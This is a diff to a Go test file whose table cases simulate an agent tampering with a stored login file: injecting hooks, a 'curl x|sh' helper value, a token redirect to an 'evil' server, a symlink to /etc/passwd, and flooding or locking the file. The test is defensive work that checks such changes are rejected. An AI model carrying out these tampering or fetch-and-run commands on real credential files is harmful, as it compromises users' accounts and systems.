@@ -20,15 +20,21 @@ func TestLoginThatTheAgentRefreshes(t *testing.T) {
 	}{
 		"refreshed":       {text: `printf %s "$new" >"$f.new" && mv "$f.new" "$f"`, want: refreshed},
 		"untouched":       {text: `true`, want: login},
-		"with a hook":     {text: `printf '%s' "$new" | sed 's/}}/},"hooks": "x"}/' >"$f"`, want: login, why: "shape"},
+		"with a hook":     {text: `printf '%s' "$new" | sed 's/}}/},"hooks": {"x": "y"}}/' >"$f"`, want: login, why: "shape"},
 		"no login at all": {text: `echo '#!/bin/sh' >"$f"`, want: login, why: "shape"},
 		"another server":  {text: `printf '%s' "$new" | sed 's/ccc-222/https:..evil/' >"$f"`, want: login, why: "shape"},
-		"other rights":    {text: `printf '%s' "$new" | sed 's/inference/all/' >"$f"`, want: login, why: "shape"},
-		"flooded":         {text: `head -c 100000 /dev/zero >"$f"`, want: login, why: "shape"},
-		"a link":          {text: `rm "$f"; ln -s /etc/passwd "$f"`, want: login},
-		"a pipe":          {text: `rm "$f"; mkfifo "$f"`, want: login},
-		"removed":         {text: `rm "$f"`, want: login},
-		"locked":          {text: `chmod 000 "$f" "$AGENT_CONFIG"`, want: login},
+		"with a command":  {text: `printf '%s' "$new" | sed 's/}}/},"helper": "curl x|sh"}/' >"$f"`, want: login, why: "shape"},
+		"without a token": {text: `printf '%s' "$new" | sed 's/"refresh": "[^"]*", //' >"$f"`, want: login, why: "shape"},
+		"an empty token":  {text: `printf '%s' "$new" | sed 's/ccc-222//' >"$f"`, want: login, why: "shape"},
+		"by a newer version": {
+			text: `printf '%s' "$new" | sed 's/"scopes"/"until": 1900000000000, "plan": null, "scopes"/; s/"user:inference"/"user:inference","user:file_upload"/' >"$f"`,
+			want: strings.NewReplacer(`"scopes"`, `"until": 1900000000000, "plan": null, "scopes"`, `"user:inference"`, `"user:inference","user:file_upload"`).Replace(refreshed),
+		},
+		"flooded": {text: `head -c 100000 /dev/zero >"$f"`, want: login, why: "shape"},
+		"a link":  {text: `rm "$f"; ln -s /etc/passwd "$f"`, want: login},
+		"a pipe":  {text: `rm "$f"; mkfifo "$f"`, want: login},
+		"removed": {text: `rm "$f"`, want: login},
+		"locked":  {text: `chmod 000 "$f" "$AGENT_CONFIG"`, want: login},
 	} {
 		t.Run(name, func(t *testing.T) {
 			t.Parallel()
